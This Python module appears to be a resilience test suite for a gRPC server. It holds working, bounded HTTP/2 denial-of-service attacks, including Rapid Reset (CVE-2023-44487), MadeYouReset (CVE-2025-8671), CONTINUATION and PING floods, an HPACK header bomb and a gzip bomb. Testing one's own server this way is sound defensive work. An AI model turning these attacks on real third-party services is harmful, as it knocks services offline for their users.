"""Attacks on the gRPC port, each bounded in count, bytes and time; they return what is still held, to be let go later."""

import contextlib
import gzip
import random
import ssl
import time
from collections.abc import Callable, Iterable

from tests.attacks import http2
from tests.attacks.http2 import Connection

_BATCH = 500
# No flood lasts longer, however slowly the other end reads.
_FLOOD_S = 8.0
Held = list[Connection]
Assault = Callable[[str, bytes], Held]


def flood(connection: Connection, pieces: Iterable[bytes]) -> Connection:
    """Send until all is sent, the time is over or the other end has enough. Nothing is ever read."""
    end = time.monotonic() + _FLOOD_S
    connection.socket.settimeout(1.0)
    for piece in pieces:
        if time.monotonic() > end or not connection.send(piece):
            break
    return connection


def _batches(count: int, make: Callable[[int], bytes]) -> Iterable[bytes]:
    """Yield what make(0), make(1), … make(count - 1) return, some hundred at a time."""
    for begun in range(0, count, _BATCH):
        yield b"".join(make(n) for n in range(begun, min(count, begun + _BATCH)))


def slow_bodies(target: str, message: bytes, connections: int = 1, streams: int = 40) -> Held:
    """Begin messages of a mebibyte on many streams, send ten bytes of each and wait."""
    held = [Connection(target) for _ in range(connections)]
    for connection in held:
        for stream in range(1, 2 * streams, 2):
            begun = http2.message(bytes(10), promised=1 << 20)
            connection.send(http2.opening(stream, http2.CLASSIFY) + http2.data(stream, begun))
    return held


def many_slow_bodies(target: str, message: bytes) -> Held:
    """As slow_bodies, 400 of them over ten connections."""
    return slow_bodies(target, message, connections=10)


def half_open(target: str, message: bytes) -> Held:
    """Connect 300 times; say nothing, or half of the preface, or the preface and no SETTINGS."""
    greetings = (b"", http2.PREFACE[:11], http2.PREFACE)
    return [Connection(target, greetings[n % 3]) for n in range(300)]


def _opened_and_reset(number: int) -> bytes:
    """Return what opens a stream and takes it back at once."""
    stream = 2 * number + 1
    opened = http2.frame(http2.HEADERS, http2.END_HEADERS, stream, http2.request_block(http2.CLASSIFY))
    return opened + http2.frame(http2.RST_STREAM, stream=stream, payload=http2.CANCEL)


def rapid_reset(target: str, message: bytes) -> Held:
    """Open 20,000 streams and reset each at once (CVE-2023-44487)."""
    return [flood(Connection(target), _batches(20_000, _opened_and_reset))]


def rapid_reset_from_many(target: str, message: bytes) -> Held:
    """As rapid_reset, 1,000 streams on each of 20 connections: no limit per connection sees it."""
    burst = b"".join(_opened_and_reset(n) for n in range(1_000))
    held = [Connection(target) for _ in range(20)]
    for connection in held:
        connection.send(burst)
    return held


def rapid_reset_of_whole_requests(target: str, message: bytes) -> Held:
    """Send 5,000 whole requests, and reset each at once, so that it may have been accepted."""
    headers, body = http2.request_block(http2.CLASSIFY), http2.message(message)

    def one(n: int) -> bytes:
        stream = 2 * n + 1
        opened = http2.frame(http2.HEADERS, http2.END_HEADERS, stream, headers)
        sent = opened + http2.data(stream, body, http2.END_STREAM)
        return sent + http2.frame(http2.RST_STREAM, stream=stream, payload=http2.CANCEL)

    return [flood(Connection(target), _batches(5_000, one))]


def made_you_reset(target: str, message: bytes) -> Held:
    """Make the server reset 10,000 streams of its own accord, by a wrong frame on each (CVE-2025-8671)."""
    headers = http2.request_block(http2.CLASSIFY)

    def one(n: int) -> bytes:
        stream = 2 * n + 1
        opened = http2.frame(http2.HEADERS, http2.END_HEADERS, stream, headers)
        return opened + http2.window_update(stream, 0)

    return [flood(Connection(target), _batches(10_000, one))]


def continuation_flood(target: str, message: bytes) -> Held:
    """Open a header block and never end it: 64 MiB of CONTINUATION."""
    connection = Connection(target)
    connection.send(http2.opening(1, http2.CLASSIFY, flags=0))
    piece = http2.frame(http2.CONTINUATION, 0, 1, b"".join(http2.literal(f"x-{n}", bytes(500)) for n in range(30)))
    return [flood(connection, (piece for _ in range((64 << 20) // len(piece))))]


def empty_continuation_flood(target: str, message: bytes) -> Held:
    """Open a header block and never end it: 200,000 empty CONTINUATIONs."""
    connection = Connection(target)
    connection.send(http2.opening(1, http2.CLASSIFY, flags=0))
    empty = http2.frame(http2.CONTINUATION, 0, 1)
    return [flood(connection, _batches(200_000, lambda _: empty))]


def header_bomb(target: str, message: bytes) -> Held:
    """Put 4,000 bytes into the server's header table, and name them 16,000 times a stream with a byte each."""
    connection = Connection(target)
    kept = http2.literal("x-bomb", bytes([97]) * 4_000, is_kept=True)
    connection.send(http2.frame(http2.HEADERS, http2.END_HEADERS, 1, http2.request_block(http2.CLASSIFY) + kept))
    named = http2.integer(62, 7, 0x80) * 16_000

    def one(n: int) -> bytes:
        return http2.frame(http2.HEADERS, http2.END_HEADERS, 2 * n + 3, http2.request_block(http2.CLASSIFY) + named)

    return [flood(connection, map(one, range(200)))]


def large_headers(target: str, message: bytes) -> Held:
    """Open streams with 8 MiB of headers in all, in pieces just as large as a frame may be."""
    block = http2.request_block(http2.CLASSIFY, *[(f"x-{n}", bytes([98]) * 1_500) for n in range(10)])
    connection = Connection(target)
    return [flood(connection, (http2.frame(1, http2.END_HEADERS, 2 * n + 1, block) for n in range(500)))]


def settings_flood(target: str, message: bytes) -> Held:
    """Ask for 100,000 acknowledgements of settings and read none."""
    asked = http2.settings({http2.INITIAL_WINDOW_SIZE: 65_535})
    return [flood(Connection(target), _batches(100_000, lambda _: asked))]


def ping_flood(target: str, message: bytes) -> Held:
    """Send 200,000 pings and read no answer."""
    ping = http2.frame(http2.PING, payload=bytes(8))
    return [flood(Connection(target), _batches(200_000, lambda _: ping))]


def wrong_windows(target: str, message: bytes) -> Held:
    """Enlarge windows by nothing and beyond what they can be, of the connection and of streams."""
    held = []
    for more in (0, (1 << 31) - 1):
        held += [Connection(target) for _ in range(20)]
        for connection in held[-20:]:
            connection.send(http2.opening(1, http2.CLASSIFY) + http2.window_update(1, more) * 3)
            connection.send(http2.window_update(0, more) * 3)
    return held


def tiny_windows(target: str, message: bytes) -> Held:
    """Ask 2,000 things over 20 connections, leaving the answers no room and never reading."""
    body = http2.message(message)
    greeting = http2.PREFACE + http2.settings({http2.INITIAL_WINDOW_SIZE: 1})
    held = [Connection(target, greeting) for _ in range(20)]
    for connection in held:
        for stream in range(1, 200, 2):
            connection.send(http2.opening(stream, http2.CLASSIFY) + http2.data(stream, body, http2.END_STREAM))
    return held


def empty_data_flood(target: str, message: bytes) -> Held:
    """Send 200,000 DATA frames with nothing in them."""
    connection = Connection(target)
    connection.send(http2.opening(1, http2.STREAM_CLASSIFY))
    nothing = http2.frame(http2.DATA, stream=1)
    return [flood(connection, _batches(200_000, lambda _: nothing))]


def empty_message_flood(target: str, message: bytes) -> Held:
    """Send 50,000 empty gRPC messages on one stream, as fast as the window allows, reading no answer."""
    connection = Connection(target)
    connection.send(http2.opening(1, http2.STREAM_CLASSIFY))
    nothing = http2.data(1, http2.message(b""))
    return [flood(connection, _batches(50_000, lambda _: nothing))]


def idle_streams(target: str, message: bytes) -> Held:
    """Open 4,000 streams on one connection and say nothing on any."""
    connection = Connection(target)
    headers = http2.request_block(http2.STREAM_CLASSIFY)
    opened = _batches(4_000, lambda n: http2.frame(http2.HEADERS, http2.END_HEADERS, 2 * n + 1, headers))
    return [flood(connection, opened)]


def idle_watches(target: str, message: bytes) -> Held:
    """Watch health 2,000 times over 20 connections."""
    held = [Connection(target) for _ in range(20)]
    for connection in held:
        for stream in range(1, 200, 2):
            body = http2.data(stream, http2.message(b""), http2.END_STREAM)
            connection.send(http2.opening(stream, http2.WATCH) + body)
    return held


def idle_connections(target: str, message: bytes) -> Held:
    """Hold 2,000 connections that greeted and went silent."""
    return [Connection(target) for _ in range(2_000)]


def streams_never_read(target: str, message: bytes) -> Held:
    """Hold 100 bidirectional streams over ten connections that send photos, and leave the answers no room."""
    body = http2.message(message)
    held = [Connection(target, http2.PREFACE + http2.settings({http2.INITIAL_WINDOW_SIZE: 0})) for _ in range(10)]
    for connection in held:
        for stream in range(1, 20, 2):
            connection.send(http2.opening(stream, http2.STREAM_CLASSIFY) + http2.data(stream, body * 30))
    return held


def garbage(target: str, message: bytes) -> Held:
    """Send bytes that are no HTTP/2, before and after the preface."""
    seeded, held = random.Random(4), []
    for n in range(200):
        held.append(Connection(target, (http2.PREFACE + http2.settings()) * (n % 2)))
        held[-1].send(seeded.randbytes(seeded.randrange(1, 4_000)))
    return held


def wrong_frames(target: str, message: bytes) -> Held:
    """Send frames of every kind with random flags, streams, lengths and contents."""
    seeded, held = random.Random(5), []
    for _ in range(300):
        held.append(Connection(target))
        for _ in range(20):
            payload = seeded.randbytes(seeded.choice((0, 1, 4, 5, 8, 60)))
            kind, flags = seeded.randrange(12), seeded.randrange(256)
            held[-1].send(http2.frame(kind, flags, seeded.choice((0, 1, 2, 3, 1 << 30)), payload))
        held[-1].send(b"\xff\xff\xff\x00\x00\x00\x00\x00\x01")  # DATA of 16 MiB, which does not follow
    return held


def other_protocols(target: str, message: bytes) -> Held:
    """Speak TLS and HTTP/1.1 to a port that expects neither."""
    outgoing = ssl.MemoryBIO()
    hello = ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname="localhost")
    with contextlib.suppress(ssl.SSLWantReadError):
        hello.do_handshake()
    speeches = (outgoing.read(), b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")
    return [Connection(target, speeches[n % 2]) for n in range(100)]


def zip_bomb(target: str, message: bytes) -> Held:
    """Send 32 messages of 60 KB that gzip makes 60 MB each, within the limit of a message."""
    bomb = http2.message(gzip.compress(bytes(60 << 20), 9), is_compressed=True)
    assert len(bomb) < 65_535  # fits the first window
    opened = http2.opening(1, http2.CLASSIFY, ("grpc-encoding", b"gzip"))
    held = [Connection(target) for _ in range(32)]
    for connection in held:
        connection.send(opened + http2.data(1, bomb, http2.END_STREAM))
    return held


ASSAULTS: tuple[Assault, ...] = (
    slow_bodies, many_slow_bodies, half_open, rapid_reset, rapid_reset_from_many, rapid_reset_of_whole_requests, made_you_reset,
    continuation_flood, empty_continuation_flood, header_bomb, large_headers, settings_flood, ping_flood, wrong_windows,
    tiny_windows, empty_data_flood, empty_message_flood, idle_streams, idle_watches, idle_connections,
    streams_never_read, garbage, wrong_frames, other_protocols, zip_bomb,
)  # fmt: skip
